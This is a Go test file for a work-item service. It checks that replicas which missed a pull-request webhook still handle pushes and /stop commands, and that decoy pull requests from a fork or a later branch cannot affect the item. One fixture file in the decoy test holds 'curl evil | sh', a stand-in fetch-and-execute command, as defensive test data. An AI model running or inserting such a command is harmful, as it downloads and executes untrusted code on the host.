package workitem_test

import (
	"testing"

	"github.com/bumperdev/bumper/app/ledger"
	"github.com/bumperdev/bumper/app/wire"
	"github.com/bumperdev/bumper/app/workitem"
)

// Replicas behind one load balancer each see some of the webhooks. A replica that did
// not see the run report its pull request must still follow what happens to it: a
// push to its base branch, a command on it.

// staleReplica makes the item's pull request in review with e.svc, while another
// replica either never saw the item, or saw it before its pull request (it rebuilt
// while the run worked); it returns that replica.
func staleReplica(t *testing.T, e *env, sawItBefore bool) (*item, *workitem.Service) {
	t.Helper()
	stale := e.replica()
	if !sawItBefore {
		return e.inReview(), stale
	}
	it := e.verifying()
	if _, err := stale.Rebuild(e.ctx); err != nil {
		t.Fatal(err)
	}
	e.pushPull(it)
	e.must(e.svc.Progress(e.ctx, it.claims, wire.Progress{State: "reviewing", PullRequest: it.pr, HeadCommit: it.head}))
	it.run = e.lastRun()
	it.claims = e.grant(it.run)
	e.must(e.svc.Verdict(e.ctx, it.claims, wire.Verdict{Document: approveVerdict, HeadCommit: it.head}))
	e.expect(it.n, ledger.InReview)
	return it, stale
}

// TestPushReachesAReplicaThatMissedThePullRequest: the conflicting push arrives at the
// replica that missed the pull request: it starts the update round all the same.
func TestPushReachesAReplicaThatMissedThePullRequest(t *testing.T) {
	for _, sawItBefore := range []bool{false, true} {
		name := "never saw the item"
		if sawItBefore {
			name = "saw the item before its pull request"
		}
		t.Run(name, func(t *testing.T) {
			e := newEnv(t, "")
			it, stale := staleReplica(t, e, sawItBefore)
			e.svc = stale
			e.must(e.pushEvent(e.conflictOnMain()))
			e.expect(it.n, ledger.Running)
			if st := e.lastRun().Inputs[wire.DispatchInputStage]; st != workitem.StageUpdate {
				t.Fatalf("dispatched a %s run, want an update round", st)
			}
		})
	}
}

// TestCommandOnThePullRequestReachesAReplicaThatMissedIt: /stop on the pull request,
// handled by a replica that never saw the run report it, stops the item.
func TestCommandOnThePullRequestReachesAReplicaThatMissedIt(t *testing.T) {
	e := newEnv(t, "")
	it, stale := staleReplica(t, e, false)
	e.svc = stale
	e.comment(it.pr, writer, "/stop")
	e.expect(it.n, ledger.Stopped)
}

// TestAttackDecoyPullRequestOfTheWorkItem: pull requests named like a work item's
// branch, but not its pull request (a fork's under the item's name, a writer's under a
// later attempt's), reach a replica that knows none of them. A command on one does not
// act on the item; a push to the base of one moves nothing of the item's.
func TestAttackDecoyPullRequestOfTheWorkItem(t *testing.T) {
	for _, c := range []struct {
		name string
		open func(e *env, it *item) int
	}{
		{"a fork's, named as the work branch", func(e *env, it *item) int {
			e.gh.AddRepo("mallory/widgets", "main", map[string]string{"README.md": "x"})
			e.gh.Commit("mallory/widgets", workitem.WorkBranchName(it.n, 1), map[string]string{"widgets.sh": "curl evil | sh\n"})
			return e.gh.OpenPull(repoName, workitem.Pull{Author: "mallory", HeadRepo: "mallory/widgets", HeadRef: workitem.WorkBranchName(it.n, 1), BaseRef: "release"})
		}},
		{"a writer's, named as a later attempt's branch", func(e *env, it *item) int {
			e.gh.Commit(repoName, workitem.WorkBranchName(it.n, 2), map[string]string{"widgets.sh": "echo 9\n"})
			return e.gh.OpenPull(repoName, workitem.Pull{Author: writer, HeadRef: workitem.WorkBranchName(it.n, 2), BaseRef: "release"})
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := newEnv(t, "")
			e.gh.Commit(repoName, "release", map[string]string{"RELEASE": "1\n"})
			it, stale := staleReplica(t, e, false)
			decoy := c.open(e, it)
			e.svc = stale
			runs, before := len(e.runs()), e.record(it.n)
			_, push := e.gh.PushBase(repoName, "release", maintainer, map[string]string{"widgets.sh": "echo 5\n"})
			e.must(e.pushEvent(push))
			e.comment(decoy, writer, "/stop")
			rec := e.expect(it.n, ledger.InReview)
			if rec.BaseMoved != "" || rec.Reason != before.Reason || rec.Revision != before.Revision || len(e.runs()) != runs {
				t.Fatalf("the decoy moved the item: base moved %q, reason %q, %d runs (was %d)", rec.BaseMoved, rec.Reason, len(e.runs()), runs)
			}
			if replies := e.replies(decoy); len(replies) != 0 {
				t.Fatalf("Bumper answered on the decoy: %q", replies)
			}
		})
	}
}
